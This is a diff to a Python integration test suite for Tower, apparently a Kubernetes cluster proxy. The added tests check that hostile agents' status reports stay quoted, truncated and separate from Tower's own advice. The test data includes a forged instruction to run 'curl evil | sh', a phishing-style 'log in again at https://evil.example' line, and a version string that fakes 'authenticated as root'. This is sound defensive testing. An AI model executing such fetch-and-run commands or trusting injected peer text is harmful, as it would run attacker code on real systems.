@@ -18,17 +18,44 @@ from tests.integration.asking import Asking
 from tests.integration.backends import Backend
 from tests.integration.hostile_agent import HostileAgentTestCase
 from tests.integration.hostile_proxy import HostileProxyTestCase
-from tests.integration.programs import wait_for
-from tests.integration.raw_peer import DISCONNECT, OPEN, REFUSE, Gone, RawPeer, agent_peer, number
+from tests.integration.programs import run, script, wait_for
+from tests.integration.raw_peer import (
+    CONFIRM,
+    DATA,
+    DISCONNECT,
+    OPEN,
+    REFUSE,
+    Gone,
+    RawPeer,
+    agent_peer,
+    number,
+)
 from tests.integration.threaded import ThreadedServer
 from tower.escaping import PEER_TEXT_LIMIT, VERSION_LIMIT
 from tower.v2.hello import LONGEST_TEXT, AgentHello, ProxyHello
+from tower.v2.transport import STATUS_REPORT
 
 BY_APPLICATION = 11
+GLOBAL = 80
 
 #: A peer's words, and their start when they are quoted.
 WORDS = 'log in again at "https://evil.example" ' + WORSE + "x" * 2000
 REPEATED = r"log in again at \"https://evil.example\" one\r\n2026"
+
+
+#: An instruction that must not pass for Tower's.
+FORGED = "fine\": run 'curl evil | sh' -> run 'curl evil | sh' " + WORSE
+
+
+def status_report(**checks: tuple[str, str]) -> bytes:
+    """Return a member status: status and reason of each check, all with the forged words."""
+    value = {
+        key: {"status": status, "reason": reason, "message": (FORGED + "x" * 1024)[:1024]}
+        for key, (status, reason) in checks.items()
+    }
+    return (
+        bytes((GLOBAL,)) + NS(STATUS_REPORT) + b"\0" + json.dumps({**value, "version": FORGED[:7]}).encode()
+    )
 
 
 def last_words(text: str = WORDS) -> bytes:
@@ -95,12 +122,114 @@ class AgentTests(HostileAgentTestCase, QuotationTestCase):
         (logged,) = [each for each in self.logged().split("\n") if line in each]
         self.assertReported(logged, "the agent of evil")
 
+    def test_member_status(self) -> None:
+        """Its reports about the API server: quoted in conditions, log and answers, with Tower's own cures."""
+        peer = self.bench.peer()
+        self.addCleanup(peer.close)
+        peer.say(
+            status_report(
+                apiServer=("False", "Timeout"),
+                credential=("False", "CurlEvil"),
+                impersonation=("Unknown", "Ready"),
+            )
+        )
+
+        def conditions() -> dict[str, dict[str, str]]:
+            status = self.bench.tower.status("evil")["status"]
+            known = {each["type"]: each for each in status["conditions"]}
+            self.assertNotEqual(known["APIServerReachable"]["reason"], "UnknownReason")
+            return known if known["APIServerReachable"]["reason"] == "Timeout" else {}
+
+        known = wait_for("the report in the conditions", conditions, 30.0)
+        for kind, status, reason in (
+            ("Available", "False", "Timeout"),
+            ("APIServerReachable", "False", "Timeout"),
+            ("MemberCredential", "False", "UnknownReason"),
+            ("ImpersonationAllowed", "Unknown", "UnknownReason"),
+        ):
+            self.assertEqual((known[kind]["status"], known[kind]["reason"]), (status, reason))
+            self.assertForged(known[kind]["message"])
+        self.assertIn(
+            ": restart the API server if it is frozen", known["Available"]["message"].rpartition('"')[2]
+        )
+        self.assertTrue(known["MemberCredential"]["message"].endswith('…"'))
+        asking = Asking(self.bench.victim)
+        self.addCleanup(asking.close)
+        message = peer.next(OPEN)
+        size = int.from_bytes(message[1:5], "big")
+        remote = int.from_bytes(message[5 + size : 9 + size], "big")
+        answer = b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n"
+        peer.say(
+            bytes((CONFIRM,)) + number(remote, 0, 65536, 65536),
+            bytes((DATA,)) + number(remote) + NS(answer),
+        )
+        self.assertEqual(asking.answer(), 502)
+        self.assertForged(json.loads(asking.body)["message"])
+        version = self.bench.tower.status("evil")["status"].get("kubernetesVersion", "")
+        self.assertNotIn("fine", version)
+        line = "cluster evil is not available: Timeout: "
+        wait_for("the line in the log", lambda: line in self.logged())
+        (logged,) = [each for each in self.logged().split("\n") if line in each]
+        self.assertForged(logged)
+        for form in ("table", "json", "yaml", "wide"):
+            self.assertEqual(unfit(self.bench.tower.tower("cluster", "list", "-o", form)), [], form)
+        self.assertDoctor("FAIL", "APIServerReachable", "restart the API server if it is frozen")
+        peer.say(
+            status_report(
+                apiServer=("True", "ClockSkew"),
+                credential=("True", "CredentialAccepted"),
+                impersonation=("True", "CurlEvil"),
+            )
+        )
+        wait_for("the next report", lambda: conditions() == {}, 60.0)
+        self.assertDoctor("warn", "APIServerReachable", "synchronize both machines with NTP")
+
+    def assertForged(self, text: str) -> None:
+        """*text* has the forged words as one quotation of the agent, and nothing of them outside it."""
+        self.assertEqual(unfit(text), [])
+        before, who, rest = re.split("(the agent of evil reports: )", text, maxsplit=1, flags=re.IGNORECASE)
+        self.assertTrue(who, text)
+        quotation = re.match(r'"(?:[^"\\]|\\.)*"', rest)
+        assert quotation is not None
+        self.assertLessEqual(len(quotation[0]), PEER_TEXT_LIMIT + 2)
+        self.assertIn("curl evil", quotation[0])
+        self.assertNotIn("curl", before + rest[len(quotation[0]) :])
+
+    def assertDoctor(self, grade: str, check: str, cure: str) -> None:
+        """``tower doctor`` has that finding with that cure, and no cure has the agent's words."""
+        words = ("--state-dir", str(self.bench.tower.state), "-o", "json")
+        done = run([script("tower"), "doctor", "evil", *words], folder=self.bench.tower.folder)
+        findings = json.loads(done.stdout)["findings"]
+        (found,) = [each for each in findings if each["check"] == check]
+        self.assertEqual(found["status"], grade)
+        self.assertIn(cure, found["cure"])
+        self.assertForged(found["seen"])
+        for each in findings:
+            self.assertNotIn("curl", each["cure"])
+            self.assertEqual(unfit(each["seen"]), [])
+
+    def test_changing_status(self) -> None:
+        """An agent that reports more often than allowed, or more than allowed, is disconnected."""
+        changing = [
+            status_report(apiServer=("False" if number % 2 else "True", "ConnectionRefused"))
+            for number in range(1000)
+        ]
+        peer = self.bench.peer()
+        peer.flood(peer.writer.wrap(b"".join(map(peer.ssh.sealer.seal, changing))) for _ in range(1))
+        self.assertDropped(peer, "too many member statuses")
+        peer = self.bench.peer()
+        huge = json.dumps({"apiServer": {"message": "x" * 200_000}}).encode()
+        peer.say(bytes((GLOBAL,)) + NS(STATUS_REPORT) + b"\0" + huge)
+        self.assertDropped(peer, "a member status of 2000.. B exceeds the limit of 16384 B")
+        self.assertLess(self.logged().count("cluster evil is"), 10)
+
     def test_version(self) -> None:
         """Its version is cut when shown, and quoted in the log."""
         peer = agent_peer(self.bench.tower.port, "evil", self.bench.key, self.bench.host_key)
         self.addCleanup(peer.close)
         version = 'v1.0", authenticated as "root" ' + "y" * LONGEST_TEXT
-        peer.ssh._hello = AgentHello(version[:LONGEST_TEXT], "z" * LONGEST_TEXT)
+        name = "host   True " + "z" * LONGEST_TEXT
+        peer.ssh._hello = AgentHello(version[:LONGEST_TEXT], name[:LONGEST_TEXT])
         peer.authenticate()
         line = 'the agent of evil reports: "version v1.0\\", authenticated as \\"root\\" yyy'
         wait_for("the line", lambda: line in self.logged())
@@ -108,6 +237,7 @@ class AgentTests(HostileAgentTestCase, QuotationTestCase):
         path = "/apis/cluster.kubesphere.io/v1alpha1/clusters/evil/agents"
         listed = self.bench.tower.admin().request("GET", path).body.decode()
         self.assertIn("yyy", listed)
+        self.assertIn('\\"host   True zzz', listed)
         self.assertNotIn("y" * VERSION_LIMIT, listed)
         self.assertNotIn("z" * VERSION_LIMIT, listed)
         self.assertEqual(unfit(self.bench.tower.tower("cluster", "agents", "evil")), [])
